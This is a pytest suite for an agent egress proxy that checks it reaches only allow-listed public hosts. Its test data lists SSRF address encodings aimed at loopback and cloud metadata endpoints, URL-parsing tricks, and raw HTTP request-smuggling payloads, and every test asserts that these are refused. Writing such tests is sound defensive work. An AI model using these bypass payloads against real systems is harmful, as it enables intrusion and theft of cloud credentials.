"""Plain requests through the proxy: only listed hosts are reached, at public addresses, each judged by itself."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncGenerator, Sequence

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.executors.egress import Egress, EgressPolicy, EgressRefusal, Seen, violation
from interlock.testing import FakeClock
from tests.egress.world import OTHER, PUBLIC, SOON, Upstream, both, policy, world
from tests.needs import need

ADDRESSES = (
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "0",
    "0.0.0.0", "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "10.0.0.5",
    "100.100.100.200", "168.63.129.16", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:7f00:1::]", "[fe80::1]", "[fd00:ec2::254]",
    "127.0.0.1.", "0x7F.1", PUBLIC, "1572395042", "[2606:2800:21f:cb07:6820:80da:af6b:8b2c]", "localhost",
)  # fmt: skip
TRICKS = (
    "http://evil.example/",
    "http://api.example.com@evil.example/",
    "http://evil.example\\@api.example.com/",
    "http://evil.example#api.example.com/",
    "http://api.example.com.evil.example/",
    "http://evil.example%2eapi.example.com/",
    "http://xapi.example.com/",
    "http://example.org/",  # `*.example.org` is what is listed
    "http://api.example.com:25/",
    "http://api.example.com:8080/",
    "http://api.example.com:65616/",  # 80, modulo 2**16
    "http://api.example.com:0080/",
    "https://api.example.com/",
    "http://münchen.example/",
    "http://inside.example.com/",
    "http://metadata.example.com/",
    "http://mixed.example.com/",
    "http://mapped.example.com/",
)


@pytest.mark.proves("EXEC-06")
async def test_addresses_in_every_form_are_refused_and_nothing_is_dialled() -> None:
    async with world() as there:
        for address in ADDRESSES:
            assert await there.get(f"http://{address}/") == 403, address
            assert await there.connect_to(f"{address}:443") == 403, address
        assert there.dialled == []
        assert there.egress.refused == len(there.egress.refusals) == 2 * len(ADDRESSES)


@pytest.mark.proves("EXEC-06")
@pytest.mark.parametrize("url", TRICKS)
async def test_no_way_of_writing_it_gets_round_the_lists(url: str) -> None:
    async with world() as there:
        assert await there.get(url) in (400, 403)
        assert there.dialled == []
        (refusal,) = there.egress.refusals
        assert there.events[0] is refusal
        assert violation([refusal]).code == "E3406"


@pytest.mark.proves("EXEC-06")
@pytest.mark.parametrize("port", [22, 25, 80, 8443])
async def test_a_tunnel_is_judged_by_its_port_too(port: int) -> None:
    async with world(both("api.example.com", ports=(443,))) as there:
        assert await there.connect_to(f"api.example.com:{port}") == 403
        assert there.dialled == []


@pytest.mark.proves("EXEC-06")
@pytest.mark.parametrize(
    "url",
    ["http://api.example.com/", "http://API.Example.COM/", "http://api.example.com./", "http://api.example.com:80/",
     "http://a.b.example.org/", "http://xn--mnchen-3ya.example/", "http://XN--MNCHEN-3YA.example/"],
)  # fmt: skip
async def test_a_listed_name_is_reached_in_each_of_its_forms(url: str) -> None:
    async with world() as there:
        assert await there.get(url) == 200
        assert there.dialled == [(PUBLIC, 80)]
        assert there.egress.refusals == []
        host = there.egress.requests[0].host.encode()
        assert host in (b"api.example.com", b"a.b.example.org", b"xn--mnchen-3ya.example")
        assert there.web.heard[0].startswith(b"GET / HTTP/1.1\r\nhost: %s\r\n" % host)


@pytest.mark.proves("EXEC-06")
@pytest.mark.parametrize(
    "lists",
    [
        EgressPolicy(agent=policy(), manifest=policy("api.example.com")),
        EgressPolicy(agent=policy("api.example.com"), manifest=policy()),
        EgressPolicy(agent=policy("api.example.com", ports=(443,)), manifest=policy("api.example.com")),
        EgressPolicy(agent=policy("api.example.com", deny_all_egress=True), manifest=policy("api.example.com")),
        EgressPolicy(agent=policy("api.example.com"), manifest=policy("api.example.com", deny_all_egress=True)),
    ],
)
async def test_one_list_is_not_enough_and_a_denial_of_everything_overrides(lists: EgressPolicy) -> None:
    async with world(lists) as there:
        assert await there.get("http://api.example.com/") == 403
        assert there.dialled == []


@pytest.mark.proves("EXEC-06")
@pytest.mark.parametrize(("path", "refused"), [("/redirect", "evil.example"), ("/inward", "169.254.169.254")])
async def test_a_redirect_leads_no_further_than_a_request_would(path: str, refused: str) -> None:
    async with world() as there, there.client(follow_redirects=True) as client:
        answer = await client.get(f"http://api.example.com{path}")
        assert answer.status_code == 403
        assert there.dialled == [(PUBLIC, 80)]
        assert [refusal.host for refusal in there.egress.refusals] == [refused]


@pytest.mark.proves("EXEC-06")
async def test_a_name_that_changes_its_mind_reaches_what_was_checked_or_nothing() -> None:
    """Each request asks once, and what was answered then is what is dialled."""
    answers: list[Sequence[str]] = [[PUBLIC], ["127.0.0.1"], ["169.254.169.254"], [PUBLIC, "10.0.0.1"], [OTHER]]
    async with world() as there:
        asked: list[str] = []

        async def changing(name: str) -> Sequence[str]:
            asked.append(name)
            return answers[len(asked) - 1]

        there.egress.resolve = changing
        got = [await there.get("http://api.example.com/") for _ in answers]
        assert got == [200, 403, 403, 403, 200]
        assert len(asked) == len(answers)
        assert there.dialled == [(PUBLIC, 80), (OTHER, 80)]


async def test_a_name_without_an_address_is_a_failure_and_no_violation() -> None:
    async with world(both("nowhere.example")) as there:
        assert await there.get("http://nowhere.example/") == 502
        assert there.egress.refusals == []
        assert there.egress.requests == []


async def test_the_next_address_is_tried_when_one_does_not_answer() -> None:
    async with world() as there:
        there.names["api.example.com"] = [OTHER, PUBLIC]
        dial = there.egress.dial

        async def first_is_dead(address: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
            streams = await dial(address, port)
            if address == OTHER:
                streams[1].transport.abort()
                raise ConnectionRefusedError
            return streams

        there.egress.dial = first_is_dead
        assert await there.get("http://api.example.com/") == 200
        assert there.dialled == [(OTHER, 80), (PUBLIC, 80)]


async def pieces(*some: bytes) -> AsyncGenerator[bytes]:
    for one in some:
        yield one


async def test_a_real_client_reads_and_writes_over_one_connection() -> None:
    async with world() as there, there.client() as client:
        for path, text in (("/", "ok"), ("/chunked", "hello"), ("/unframed", "until the end"), ("/both", "hello")):
            answer = await client.get(
                f"http://api.example.com{path}?q=1#f" if path == "/" else f"http://api.example.com{path}"
            )
            assert (answer.status_code, answer.text) == (200, text)
        assert (await client.head("http://api.example.com/big")).headers["content-length"] == "1000000"
        assert len((await client.get("http://api.example.com/big")).content) == 1_000_000
        assert (await client.post("http://api.example.com/", content=b"x" * 300_000)).text == "ok"

        assert (await client.put("http://api.example.com/", content=pieces(b"one", b"two"))).text == "ok"
        assert there.web.bodies[-2:] == [b"x" * 300_000, b"onetwo"]
        assert [seen.method for seen in there.egress.requests if seen.safe is False] == ["POST", "PUT"]
        assert there.egress.requests[-2].bytes_out > 300_000
        assert all(isinstance(event, Seen) for event in there.events)
        assert there.web.heard[0].startswith(b"GET /?q=1 HTTP/1.1\r\nhost: api.example.com\r\n")


async def test_curl_is_told_why() -> None:
    need("curl", "curl")
    async with world() as there:
        curl = await asyncio.create_subprocess_exec(
            "curl", "-sS", "-x", there.proxy, "http://api.example.com/", "http://evil.example/", "-d", "x",
            "-H", "Expect: 100-continue", stdout=asyncio.subprocess.PIPE,
        )  # fmt: skip
        printed, _ = await curl.communicate()
        assert printed == b"ok`evil.example` is not among the allowed domains of the agent's allowance\n"
        assert there.web.bodies == [b"x"]


async def test_what_is_between_client_and_proxy_stays_there() -> None:
    async with world() as there:
        raw = (
            b"GET http://api.example.com/hops HTTP/1.1\r\nHost: api.example.com\r\nProxy-Authorization: Basic c2VjcmV0"
            b"\r\n"
            b"Proxy-Connection: keep-alive\r\nConnection: X-Mine, content-length\r\nX-Mine: 1\r\nTE: trailers\r\n"
            b"Upgrade: h2c\r\nAuthorization: Bearer tool\r\nContent-Length: 3\r\n\r\nabc"
        )
        answer = await there.say(raw)
        heard = there.web.heard[0].lower()
        assert b"authorization: bearer tool" in heard
        assert there.web.bodies == [b"abc"]
        for name in (b"proxy-", b"x-mine", b"te:", b"upgrade", b"via", b"forwarded", b"c2vjcmv0"):
            assert name not in heard
        assert answer.startswith(b"HTTP/1.1 200 ")
        assert b"x-a" not in answer.lower()
        assert b"proxy-authenticate" not in answer.lower()


AGREED = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n"
TWO_READINGS = {
    "another Host": b"GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "another port in Host": b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com:8080\r\n\r\n",
    "two Hosts": AGREED + b"Host: evil.example\r\n\r\n",
    "no Host": b"GET http://api.example.com/ HTTP/1.1\r\n\r\n",
    "a folded Host": b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n evil.example\r\n\r\n",
    "a space before the colon": b"GET http://api.example.com/ HTTP/1.1\r\nHost : api.example.com\r\n\r\n",
    "both lengths": AGREED + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two lengths": AGREED + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    "a list of lengths": AGREED + b"Content-Length: 5, 6\r\n\r\nhello!",
    "a signed length": AGREED + b"Content-Length: +5\r\n\r\nhello",
    "two encodings": AGREED + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "an encoding that is not chunked": AGREED + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "an encoding that hides": AGREED + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    "the origin form": b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    "the asterisk form": b"OPTIONS * HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    "a carriage return alone": b"GET http://api.example.com/ HTTP/1.1\rHost: evil.example\r\n\r\n",
    "a tunnel's body": b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 1\r\n\r\na",
    "a tunnel with another Host": b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "SOCKS 5": b"\x05\x01\x00",
    "a name too many": b"GET http://api.example.com/ http://evil.example/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
}


@pytest.mark.proves("EXEC-06")
@pytest.mark.parametrize("raw", TWO_READINGS.values(), ids=TWO_READINGS.keys())
async def test_a_request_that_can_be_read_in_two_ways_is_refused(raw: bytes) -> None:
    async with world() as there:
        answer = await there.say(raw, half_close=False)
        assert answer.split(b" ")[1] in (b"400", b"403")
        assert there.dialled == []
        assert there.egress.refused == 1


@pytest.mark.proves("EXEC-06")
async def test_what_older_servers_accept_is_written_anew() -> None:
    """Folded lines and bare line feeds mean one thing to h11, and reach the upstream in the form that all agree on."""
    async with world() as there:
        folded = b"GET http://api.example.com/ HTTP/1.1\nHost: api.example.com\nX-Note: one\n\tHost: evil.example\n\n"
        assert (await there.say(folded)).startswith(b"HTTP/1.1 200 ")
        (heard,) = there.web.heard
        assert b"x-note: one Host: evil.example\r\n" in heard
        assert b"\n" not in heard.replace(b"\r\n", b"")
        chunked = (
            b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: Chunked\r\n\r\n"
        )
        chunked += b'3;x="0\r\n\r\n"\r\nabc\r\n0\r\nHost: evil.example\r\n\r\n'
        await there.say(chunked)
        assert all(b"evil" not in sent for sent in there.web.heard[1:])


@pytest.mark.proves("EXEC-06")
async def test_pipelined_requests_are_judged_one_by_one_and_none_rides_along() -> None:
    async with world() as there:
        forbidden = AGREED.replace(b"api.example.com", b"evil.example") + b"\r\n"
        answer = await there.say(AGREED + b"\r\n" + AGREED + b"\r\n" + forbidden + AGREED + b"\r\n")
        assert answer.count(b"HTTP/1.1 200 ") == 2
        assert answer.count(b"HTTP/1.1 403 ") == 1
        assert there.dialled == [(PUBLIC, 80)] * 2
        assert [heard.count(b"HTTP/1.1") for heard in there.web.heard] == [1, 1]


async def test_a_body_that_looks_like_a_request_stays_a_body() -> None:
    async with world() as there:
        inner = AGREED.replace(b"api.example.com", b"evil.example") + b"\r\n"
        raw = b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: %d\r\n\r\n" % len(
            inner
        )
        assert (await there.say(raw + inner)).count(b"HTTP/1.1") == 1
        assert there.web.bodies == [inner]


@pytest.mark.proves("EXEC-06")
@given(st.lists(st.sampled_from(("api.example.com", "evil.example", "127.0.0.1", "inside.example.com")), max_size=6))
async def test_the_place_of_a_request_on_its_connection_makes_no_difference(hosts: list[str]) -> None:
    async with world() as there:
        raw = b"".join(AGREED.replace(b"api.example.com", host.encode()) + b"\r\n" for host in hosts)
        answer = await there.say(raw)
        served = next((place for place, host in enumerate(hosts) if host != "api.example.com"), len(hosts))
        assert answer.count(b"HTTP/1.1 200 ") == served
        assert answer.count(b"HTTP/1.1 403 ") == (served < len(hosts))
        assert there.dialled == [(PUBLIC, 80)] * served


@pytest.mark.parametrize(
    ("path", "status"),
    [("/reset", 502), ("/nonsense", 502), ("/upgrade", 502), ("/heads", 502)],
)
async def test_an_upstream_that_fails_is_its_own_failure(path: str, status: int) -> None:
    async with world() as there:
        assert await there.get(f"http://api.example.com{path}") == status
        assert there.egress.refusals == []


async def test_an_answer_that_breaks_off_is_never_taken_for_whole() -> None:
    async with world() as there, there.client() as client:
        for path in ("/short", "/broken"):
            with pytest.raises(httpx.TransportError):
                await client.get(f"http://api.example.com{path}")
        # In HTTP/1.0 the end of the connection is the end of the answer: this one must not look like an end.
        reader, writer = await there.connect()
        writer.write(b"GET http://api.example.com/broken HTTP/1.0\r\n\r\n")
        with pytest.raises(ConnectionResetError):
            await reader.read()
        writer.transport.abort()


async def test_a_client_that_waits_to_be_asked_for_the_body_is_asked() -> None:
    async with world() as there:
        reader, writer = await there.connect()
        writer.write(b"PUT http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\n")
        writer.write(b"Expect: 100-continue\r\n\r\n")
        async with asyncio.timeout(SOON):
            assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 100 ")
            writer.write(b"body")
            assert (await reader.readuntil(b"ok")).startswith(b"HTTP/1.1 200 ")
        writer.transport.abort()
        assert there.web.bodies == [b"body"]


async def test_an_upstream_may_answer_before_it_has_heard_everything() -> None:
    async with world() as there, there.client() as client:
        answer = await client.post("http://api.example.com/early", content=b"x" * 5_000_000)
        assert (answer.status_code, answer.text) == (413, "no")


async def test_a_client_that_has_said_everything_may_half_close() -> None:
    async with world() as there:
        answer = await there.say(AGREED + b"\r\n", half_close=True)
        assert answer.endswith(b"ok")


async def test_a_client_that_breaks_off_is_no_violation() -> None:
    async with world() as there:
        await there.say(b"GET http://api.exa")
        await there.say(
            b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 9\r\n\r\nabc"
        )
        await there.say(b"")
        assert there.egress.refusals == []


async def test_a_refused_client_can_read_why_though_it_is_still_sending() -> None:
    async with world() as there, there.client() as client:
        answer = await client.post("http://evil.example/", content=b"x" * 2_000_000)
        assert answer.status_code == 403
        assert "evil.example" in answer.text
        assert (await client.head("http://evil.example/")).status_code == 403


async def test_what_a_refusal_keeps_holds_no_secret() -> None:
    async with world() as there:
        await there.say(b"GET http://user:hunter2@evil.example/hunter2?key=hunter2 HTTP/1.1\r\nHost: x\r\n\r\n")
        await there.say(b"GET https://evil.example/hunter2?key=hunter2 HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        assert "hunter2" not in repr(there.egress.refusals)
        refusal = there.egress.refusals[1]
        assert (refusal.host, refusal.method, refusal.at) == ("evil.example", "GET", FakeClock().now_ms)


async def test_the_default_dialler_and_resolver_reach_a_real_server() -> None:
    """A private host, allowed by the policy's switch for tests and by nothing else."""
    upstream = Upstream()
    server = await asyncio.start_server(upstream.serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    lists = policy("127.0.0.1", ports=(port,))
    for allow_private, status in ((True, 200), (False, 403)):
        events: list[EgressRefusal | Seen] = []
        egress = Egress(
            EgressPolicy(agent=lists, manifest=lists, allow_private=allow_private),
            clock=FakeClock().clock,
            on_event=events.append,
        )
        listener = socket.create_server(("127.0.0.1", 0))
        proxy = f"http://127.0.0.1:{listener.getsockname()[1]}"
        serving = asyncio.create_task(egress.serve(listener))
        async with httpx.AsyncClient(proxy=proxy, trust_env=False, timeout=SOON) as client:
            assert (await client.get(f"http://127.0.0.1:{port}/")).status_code == status
        await egress.close()
        await serving
        assert [type(event) for event in events] == [Seen if allow_private else EgressRefusal]
    server.close()
    await upstream.close()
